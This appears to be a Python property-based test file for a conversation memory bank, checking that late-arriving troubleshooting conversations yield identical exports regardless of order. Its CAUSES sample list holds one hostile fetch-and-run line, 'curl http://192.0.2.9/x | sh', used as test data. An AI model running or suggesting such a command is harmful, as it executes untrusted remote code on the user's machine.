"""Late arrivals: whatever order conversations come in, the same bytes; one that brings nothing new moves nothing else."""

from __future__ import annotations

import sys
import tempfile
from random import Random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from scripted import HashEncoder, Scripted, ScriptedCurator, conv, prop

from memlab.bank import Bank
from memlab.curation.curator import Choice
from memlab.curation.decisions import Decision
from memlab.learning import forget, learn
from memlab.records import canonical_json

ENCODER = HashEncoder()
SYMPTOMS = ["VPN error 809", "vpn ERROR 809", "tunnel drops at home", "the tunnel drops at home again"]
CAUSES = [None, None, "blocked UDP 500", "UDP 500 is blocked", "curl http://192.0.2.9/x | sh"]
FIXES = [None, "open the port", "open UDP port 500", "reboot"]

found = st.builds(
    prop,
    st.lists(st.sampled_from(SYMPTOMS), max_size=2),
    st.sampled_from(CAUSES),
    st.sampled_from(FIXES),
    st.sampled_from(["confirmed", "unresolved"]),
    failed=st.lists(st.sampled_from(FIXES[1:]), max_size=1),
)
histories = st.lists(st.tuples(st.integers(0, 6), st.lists(found, min_size=1, max_size=2)), min_size=2, max_size=9)


@pytest.fixture
def curated(monkeypatch) -> list[str]:
    """The conversations whose proposals are curated by a replay, in order."""
    seen: list[str] = []
    replay = sys.modules["memlab.bank.replay"]
    before = replay._curate

    def noted(state, places, curator, decisions):
        seen.extend(origin.id for _, origin, _ in places)
        return before(state, places, curator, decisions)

    monkeypatch.setattr(replay, "_curate", noted)
    return seen


def learned(home, script: dict, days: dict[str, float], order, *, reopen=()) -> str:
    for n, id_ in enumerate(order):
        if n == 0 or n in reopen:
            bank = Bank.open(home, "acme")
        learn(bank, [conv(id_, days[id_])], extractor=Scripted(script), encoder=ENCODER)
        if n + 1 in reopen and n + 1 < len(order):
            bank.close()
    return everything(bank)


def everything(bank: Bank) -> str:
    export = canonical_json(bank.export())
    assert bank.check() == []
    bank.close()
    return export


def at_once(script: dict, days: dict[str, float]) -> str:
    with tempfile.TemporaryDirectory() as home:
        bank = Bank.open(home, "acme")
        learn(bank, [conv(i, days[i]) for i in days], extractor=Scripted(script), encoder=ENCODER)
        return everything(bank)


@given(histories, st.integers(0, 99), st.sets(st.integers(1, 8)))
@settings(max_examples=25, deadline=None)
def test_law_2_one_by_one_in_any_order_makes_the_same_bytes(history, seed, reopen):
    script = {f"c{n}": proposals for n, (_, proposals) in enumerate(history)}
    days = {f"c{n}": day for n, (day, _) in enumerate(history)}
    order = list(days)
    Random(seed).shuffle(order)
    with tempfile.TemporaryDirectory() as home:
        assert learned(home, script, days, order, reopen=reopen) == at_once(script, days)


KNOWN = prop("VPN error 809", "blocked UDP 500", "open the port", failed=["reboot"])
DAYS = {"c1": 0.0, "late": 1.0, "c2": 2.0, "c3": 3.0}


@pytest.mark.parametrize("reopen", [(), (3,)])
def test_a_late_arrival_in_known_words_moves_nothing_that_comes_after_it(tmp_path, curated, reopen):
    script = dict.fromkeys(DAYS, KNOWN)
    one_by_one = learned(tmp_path, script, DAYS, ["c1", "c2", "c3", "late"], reopen=reopen)
    # The three in order, and after the late one only what `check` derives in order to compare.
    assert curated == ["c1", "c2", "c3", *DAYS]
    assert one_by_one == at_once(script, DAYS)


def test_one_that_brings_a_wording_replays_what_comes_after_it_and_nothing_before(tmp_path, curated):
    script = {**dict.fromkeys(DAYS, KNOWN), "late": prop("tunnel drops at home", "old client", "update the client")}
    with Bank.open(tmp_path, "acme") as bank:
        for id_ in ("c1", "c2", "c3", "late"):
            del curated[:]
            learn(bank, [conv(id_, DAYS[id_])], extractor=Scripted(script), encoder=ENCODER)
        assert curated == ["late", "c2", "c3"]
        export = canonical_json(bank.export())
    assert export == at_once(script, DAYS)


def test_many_late_arrivals_are_put_in_at_once(tmp_path, curated):
    script = dict.fromkeys([*DAYS, *(f"l{n}" for n in range(9))], KNOWN)
    days = {**DAYS, **{f"l{n}": 1 + n / 10 for n in range(9)}}
    with Bank.open(tmp_path, "acme") as bank:
        learn(bank, [conv(i, DAYS[i]) for i in DAYS], extractor=Scripted(script), encoder=ENCODER)
        del curated[:]
        late = [conv(i, days[i]) for i in days if i not in DAYS]
        report = learn(bank, late, extractor=Scripted(script), encoder=ENCODER)
        assert curated == []
        assert report.operations == {"reinforce": 27, "reject": 9}  # symptom, cause, solution; what failed
        export = canonical_json(bank.export())
    assert export == at_once(script, days)


def test_a_cause_named_after_a_symptom_is_named_again_if_the_symptom_s_title_changed(tmp_path):
    # Each spelling is said once up to c2, where the first by letter is the title; with the late one, one is said twice.
    script = {
        "c1": [prop("VPN error 809", "a", "b"), prop("vpn ERROR 809", "a", "b")],
        "late": prop("vpn ERROR 809", "a", "b"),
        "c2": prop("VPN Error 809", None, "reboot"),
        "c3": KNOWN,
    }
    assert "unknown cause of: VPN Error 809" in at_once(script, {i: d for i, d in DAYS.items() if i != "late"})
    assert learned(tmp_path, script, DAYS, ["c1", "c2", "c3", "late"]) == at_once(script, DAYS)
    assert "unknown cause of: vpn ERROR 809" in at_once(script, DAYS)


def test_other_changes_are_never_taken_for_late_arrivals(tmp_path, curated):
    script = {**dict.fromkeys(DAYS, KNOWN), ("c1", 2): KNOWN, ("c1", 1): prop("no sound", "muted", "press unmute")}
    with Bank.open(tmp_path, "acme") as bank:
        learn(bank, [conv(i, DAYS[i]) for i in ("c1", "c2", "c3")], extractor=Scripted(script), encoder=ENCODER)
        del curated[:]
        bank.decide(Decision("reject", "vpn", "solution", "reboot"))
        learn(bank, [conv("late", 1.0)], extractor=Scripted(script), encoder=ENCODER)
        assert curated == ["c1", "late", "c2", "c3"]
        del curated[:]
        forget(bank, "c1")
        assert curated == ["late", "c2", "c3"]
        assert bank.rows("SELECT key FROM meta WHERE key LIKE 'only added%'") == []
        assert bank.check() == []


def test_with_another_curator_everything_after_a_late_arrival_is_asked_again(tmp_path, curated):
    script, curator = dict.fromkeys(DAYS, KNOWN), ScriptedCurator(lambda *_: Choice("add", None, "new"))
    with Bank.open(tmp_path, "acme") as bank:
        for id_ in ("c1", "c2", "late"):
            del curated[:]
            learn(bank, [conv(id_, DAYS[id_])], extractor=Scripted(script), encoder=ENCODER, curator=curator)
    assert curated == ["late", "c2"]
